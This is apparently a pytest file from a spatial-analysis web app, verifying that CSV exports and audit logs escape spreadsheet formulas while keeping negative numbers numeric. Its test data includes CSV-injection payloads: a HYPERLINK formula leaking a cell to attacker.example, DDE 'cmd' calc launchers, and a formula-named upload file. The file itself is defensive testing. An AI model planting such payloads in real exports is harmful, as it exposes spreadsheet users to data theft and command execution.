"""CSV exports cannot carry formulas into a spreadsheet (OWASP CSV injection), and numbers stay numbers."""

from __future__ import annotations

import csv
import io
import json

from tests.conftest import auth
from tests.spatial.bad_boundaries import KNA
from tests.test_analyses_api import _random_background, _run

FORMULA_NAMES = ['=HYPERLINK("http://attacker.example/?leak="&A1,"Open")', "+cmd|' /C calc'!A0", "@SUM(A1:A9)",
                 "-2+3+cmd|' /C calc'!A0", "\tTab Parish", "\rReturn Parish"]


def test_cells_csv_quotes_formula_names_and_keeps_negative_numbers(client, tokens, session, tmp_path):
    collection = json.loads(KNA.read_text())
    renamed = {}
    for feature, name in zip(collection["features"], FORMULA_NAMES):
        for key in ("shapeName", "name", "NAME"):
            if key in feature["properties"]:
                renamed[feature["properties"][key]] = name
                feature["properties"][key] = name
    assert len(renamed) == len(FORMULA_NAMES)
    path = tmp_path / "parishes.geojson"
    path.write_text(json.dumps(collection))
    with path.open("rb") as handle:
        uploaded = client.post("/api/v1/boundary-sets", headers=auth(tokens["gis"]),
                               files={"file": ("=cmd|calc.geojson", handle)}, data={"activate": "true"})
    assert uploaded.status_code == 201, uploaded.text
    _random_background(session, tmp_path, seed=7, n=600)
    run = _run(client, tokens["analyst"], resolution=9, permutations=0, seed=3)
    assert run["status"] == "completed", run

    exported = client.get(f"/api/v1/analyses/{run['id']}/cells", headers=auth(tokens["analyst"]),
                          params={"format": "csv"})
    rows = list(csv.DictReader(io.StringIO(exported.text, newline="")))
    communities = {r["community"] for r in rows}
    formula_rows = [c for c in communities if c.lstrip("'") in FORMULA_NAMES]
    assert formula_rows, communities
    assert all(c.startswith("'") for c in formula_rows)
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in communities)
    z = [float(r["gi_z"]) for r in rows if r["gi_z"]]
    assert min(z) < 0  # negative numbers are written as numbers, not quoted
    assert all(not r["gi_z"].startswith("'") for r in rows)

    audit = client.get("/api/v1/audit", headers=auth(tokens["admin"]), params={"format": "csv"})
    targets = [r["target"] for r in csv.DictReader(io.StringIO(audit.text, newline=""))]
    assert "'=cmd|calc.geojson" in targets
    assert not any(t.startswith("=") for t in targets)


def test_spreadsheet_safe_only_touches_text():
    from app.formats.csv_table import spreadsheet_safe

    assert spreadsheet_safe(-1.5) == -1.5 and spreadsheet_safe(-3) == -3 and spreadsheet_safe(None) == ""
    assert spreadsheet_safe("-1.5") == "'-1.5"  # text that looks like a formula is text
    assert spreadsheet_safe("Saint Paul") == "Saint Paul"
